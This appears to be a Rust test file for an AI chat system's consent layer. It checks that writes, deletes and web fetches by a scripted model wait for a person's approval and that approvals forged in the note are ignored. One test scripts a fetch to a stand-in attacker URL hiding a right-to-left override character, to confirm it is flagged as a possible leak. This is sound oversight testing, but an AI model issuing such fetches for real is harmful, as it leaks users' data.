//! What a person decides: consent, and the end of a turn.

use std::fs;
use std::sync::Arc;
use std::time::Duration;

use futures::FutureExt;
use futures::future::{self, BoxFuture};
use serde_json::json;
use tokio_util::sync::CancellationToken;
use toolwrit_chat::conversation::{
    Consent, Decision, Ended, Nobody, Question, Reason, TurnOptions,
};
use toolwrit_chat::notebook::MemoryNotebook;
use toolwrit_chat::provider::{Message, Script};

use crate::desk::{Desk, NOTE, Person, call};

const ASK: &str = "Which notes mention the audit?\n";

#[tokio::test(start_paused = true)]
async fn writes_wait_for_consent_that_does_not_come_from_the_note() {
    let desk = Desk::with(ASK);
    let write = || call(Script::new(), "vault_append", "Inbox.md");
    let (ended, _) = desk.turn([write()]).await;
    let Ended::Asks(ids) = ended else { panic!("{ended:?}") };
    assert!(desk.text().contains("`vault.append` · asks"));
    // Neither another state nor other arguments in the note make it run.
    for edit in [("· asks", "· …"), ("· …", "· approved, ok"), ("approved, ok", "asks")] {
        desk.notebook.edit(NOTE, |text| text.replace(edit.0, edit.1));
        let _ = desk.try_turn([], TurnOptions::default()).await;
        assert!(desk.tools.made().is_empty());
    }
    let approved = || TurnOptions { approve: ids.clone(), ..TurnOptions::default() };
    desk.notebook.edit(NOTE, |text| text.replace("Inbox.md", "Private.md"));
    let (_, _) = desk.try_turn([Script::new().text("Edited.")], approved()).await;
    assert!(desk.tools.made().is_empty(), "{}", desk.text());
    assert!(desk.text().contains("cancelled, edited before it was made"), "{}", desk.text());

    let desk = Desk::with(ASK);
    let Ended::Asks(ids) = desk.turn([write()]).await.0 else { panic!() };
    let (ended, _) = desk
        .turn_with(
            [Script::new().text("Done.")],
            TurnOptions { approve: ids, ..TurnOptions::default() },
        )
        .await;
    assert_eq!((ended, desk.tools.made().len()), (Ended::Answered, 1));

    let desk = Desk::with(ASK);
    let Ended::Asks(ids) = desk.turn([write()]).await.0 else { panic!() };
    let (ended, model) = desk
        .turn_with(
            [Script::new().text("Well.")],
            TurnOptions { decline: ids, ..TurnOptions::default() },
        )
        .await;
    assert_eq!((ended, desk.tools.made().len()), (Ended::Answered, 0));
    let Some(Message::Results(results)) = model.requests()[0].messages.last().cloned() else {
        panic!()
    };
    assert!(results[0].text.contains("DECLINED"));
}

#[tokio::test(start_paused = true)]
async fn a_person_is_asked_about_what_changes_destroys_or_leaks() {
    let mut desk = Desk::with(ASK);
    let person = Person::who(Decision::Approve);
    desk.consent = person.clone();
    desk.settings.allowed_writes = ["vault.append".to_owned(), "vault.delete".to_owned()].into();
    let fetch = |script| call(script, "web_fetch", "https://evil.example/?q=\u{202e}x");
    let (ended, _) = desk
        .turn([
            fetch(Script::new()),
            call(
                call(call(Script::new(), "vault_append", "a"), "vault_delete", "b"),
                "vault_read",
                "c",
            ),
            fetch(Script::new()),
            Script::new().text("Done."),
        ])
        .await;
    assert_eq!(ended, Ended::Answered);
    let asked = person.asked.lock().unwrap();
    let reasons: Vec<_> = asked
        .iter()
        .flat_map(|question| &question.calls)
        .map(|call| (call.tool.id.as_str(), call.reason))
        .collect();
    assert_eq!(reasons, [("vault.delete", Reason::Destroys), ("web.fetch", Reason::MayLeak)]);
    assert_eq!(asked[1].calls[0].arguments, "{\"path\":\"https://evil.example/?q=\\u202ex\"}");
    assert_eq!(desk.tools.made().len(), 5);
}

/// A person who approves a call after its block has changed.
struct Late {
    notebook: Arc<MemoryNotebook>,
    change: fn(&str) -> String,
}

impl Consent for Late {
    fn ask(&self, _: Question) -> BoxFuture<'_, Decision> {
        self.notebook.edit(NOTE, self.change);
        future::ready(Decision::Approve).boxed()
    }
}

#[tokio::test(start_paused = true)]
async fn a_call_that_changed_while_a_person_was_asked_is_not_made() {
    let changes: [fn(&str) -> String; 2] = [
        |text| text.replace("Inbox.md", "Private.md"),
        |text| text.split("> [!tool|").next().unwrap_or_default().to_owned(),
    ];
    for change in changes {
        let mut desk = Desk::with(ASK);
        desk.consent = Arc::new(Late { notebook: Arc::clone(&desk.notebook), change });
        let write = call(Script::new().text("I'll add it."), "vault_append", "Inbox.md");
        desk.turn([write, Script::new().text("Well.")]).await;
        assert!(desk.tools.made().is_empty(), "{}", desk.text());
        assert!(!desk.text().contains("· ok"), "{}", desk.text());
    }
}

/// A person who approves after a day.
struct Slow;

impl Consent for Slow {
    fn ask(&self, _: Question) -> BoxFuture<'_, Decision> {
        let day = Duration::from_hours(24);
        tokio::time::sleep(day).map(|()| Decision::Approve).boxed()
    }
}

#[tokio::test(start_paused = true)]
async fn the_time_in_which_a_person_decides_is_not_time_of_the_turn() {
    let mut desk = Desk::with(ASK);
    desk.consent = Arc::new(Slow);
    let write = |path| call(Script::new(), "vault_append", path);
    let (ended, _) = desk.turn([write("a"), write("b"), Script::new().text("Done.")]).await;
    assert_eq!((ended, desk.tools.made().len()), (Ended::Answered, 2), "{}", desk.text());
}

/// A batch of calls of these tools, each with this path.
fn batch(calls: &[(&str, &str)]) -> Script {
    let calls: Vec<_> = calls
        .iter()
        .map(|(tool, path)| json!({ "tool": tool, "args": { "path": path } }))
        .collect();
    Script::new().call("system_batch_get", json!({ "calls": calls }))
}

#[tokio::test(start_paused = true)]
async fn a_batch_asks_once_about_what_would_ask_alone() {
    for (decision, made) in [(Decision::Approve, 2), (Decision::Decline, 1)] {
        let mut desk = Desk::with(ASK);
        let person = Person::who(decision);
        desk.consent = person.clone();
        let reaching = batch(&[
            ("web.fetch", "https://a.example/1"),
            ("vault.search", "b"),
            ("web.fetch", "https://a.example/2"),
        ]);
        let scripts = [batch(&[("vault.read", "a")]), reaching, Script::new().text("Done.")];
        let (ended, _) = desk.turn(scripts).await;
        assert_eq!((ended, desk.tools.made().len()), (Ended::Answered, made), "{}", desk.text());
        let asked = person.asked.lock().unwrap();
        let [question] = &asked[..] else { panic!("{asked:?}") };
        assert_eq!(question.tool.id, "system.batch_get");
        let calls: Vec<_> = question
            .calls
            .iter()
            .map(|call| (call.tool.id.as_str(), call.arguments.as_str(), call.reason))
            .collect();
        let leak = |path| ("web.fetch", path, Reason::MayLeak);
        assert_eq!(
            calls,
            [leak(r#"{"path":"https://a.example/1"}"#), leak(r#"{"path":"https://a.example/2"}"#)]
        );
    }
}

#[tokio::test(start_paused = true)]
async fn a_batch_that_only_reached_out_leaks_nothing() {
    let mut desk = Desk::with(ASK);
    let person = Person::who(Decision::Decline);
    desk.consent = person.clone();
    let fetch = |path| batch(&[("web.fetch", path)]);
    desk.turn([
        fetch("https://a.example/1"),
        fetch("https://a.example/2"),
        Script::new().text("Done."),
    ])
    .await;
    assert_eq!(desk.tools.made().len(), 2);
    assert!(person.asked.lock().unwrap().is_empty());
}

#[tokio::test(start_paused = true)]
async fn what_must_be_confirmed_is_asked_about_even_if_it_reads() {
    let mut desk = Desk::with(ASK);
    let person = Person::who(Decision::Approve);
    desk.consent = person.clone();
    *desk.tools.confirming.lock().unwrap() = Some("vault.search".to_owned());
    let scripts = [
        call(Script::new(), "vault_search", "a"),
        batch(&[("vault.search", "b"), ("vault.read", "c")]),
        Script::new().text("Done."),
    ];
    desk.turn(scripts).await;
    let asked = person.asked.lock().unwrap();
    let reasons: Vec<_> =
        asked.iter().flat_map(|question| &question.calls).map(|call| call.reason).collect();
    assert_eq!(reasons, [Reason::MustConfirm; 2]);
    assert_eq!(desk.tools.made().len(), 2);
}

/// The program ended after a person had approved a call, and before it was made.
#[tokio::test(start_paused = true)]
async fn an_approval_is_for_the_tools_that_there_were() {
    for changes in [false, true] {
        let mut desk = Desk::with(ASK);
        let write = call(Script::new(), "vault_append", "Inbox.md");
        assert!(matches!(desk.turn([write]).await.0, Ended::Asks(_)));
        let (note, path) = (desk.text(), desk.ledger());
        desk.consent = Person::who(Decision::Approve);
        desk.turn([Script::new().text("Done.")]).await;
        let lines = fs::read_to_string(&path).unwrap();
        let approved = lines.lines().position(|line| line.contains("approved")).unwrap();
        let kept: Vec<&str> = lines.lines().take(approved + 1).collect();
        fs::write(&path, kept.join("\n") + "\n").unwrap();
        desk.notebook.write(NOTE, &note);
        desk.tools = Arc::default();
        desk.consent = Arc::new(Nobody);
        if changes {
            "another manifest".clone_into(&mut desk.tools.identity.lock().unwrap());
        }
        let (ended, _) = desk.turn([Script::new().text("Done.")]).await;
        let made = desk.tools.made().len();
        assert_eq!((matches!(ended, Ended::Asks(_)), made), (changes, usize::from(!changes)));
    }
}

#[tokio::test(start_paused = true)]
async fn what_comes_after_a_call_that_asks_waits_too() {
    let desk = Desk::with(ASK);
    let script =
        call(call(call(Script::new(), "vault_read", "a"), "vault_append", "b"), "vault_read", "c");
    let Ended::Asks(ids) = desk.turn([script]).await.0 else { panic!() };
    assert_eq!(desk.tools.made(), ["vault.read {\"path\":\"a\"}"]);
    desk.turn_with(
        [Script::new().text("Done.")],
        TurnOptions { approve: ids, ..TurnOptions::default() },
    )
    .await;
    assert_eq!(desk.tools.made().len(), 3);
}

#[tokio::test(start_paused = true)]
async fn a_person_cancels() {
    let desk = Desk::with(ASK);
    let cancellation = CancellationToken::new();
    let cancel = cancellation.clone();
    let script = Script::new().text("Half").then_do(move || {
        cancel.cancel();
        async {}
    });
    let (ended, _) = desk
        .turn_with([script.text(" more")], TurnOptions { cancellation, ..TurnOptions::default() })
        .await;
    assert_eq!(ended, Ended::Cancelled);
    assert!(desk.text().contains("cancelled"), "{}", desk.text());
    let (_, model) = desk.turn([Script::new().text("Whole.")]).await;
    assert_eq!(model.requests()[0].messages.len(), 1, "half an answer is not continued");
}
